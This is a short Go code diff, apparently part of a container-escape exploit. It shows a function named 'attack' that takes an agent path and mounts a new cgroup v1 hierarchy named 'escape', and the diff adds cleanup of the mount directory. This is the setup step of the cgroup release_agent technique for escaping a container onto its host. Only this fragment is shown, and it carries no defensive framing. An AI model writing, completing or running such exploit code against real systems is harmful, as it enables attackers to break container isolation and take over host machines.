@@ -36,6 +36,7 @@ func attack(agent string) error {
 	if err != nil {
 		return err
 	}
+	defer os.Remove(dir)
 	// A hierarchy of its own, without a controller: every cgroup v1 has the file.
 	if err := unix.Mount("cgroup", dir, "cgroup", 0, "none,name=escape"); err != nil {
 		return fmt.Errorf("mount cgroup v1: %w", err)
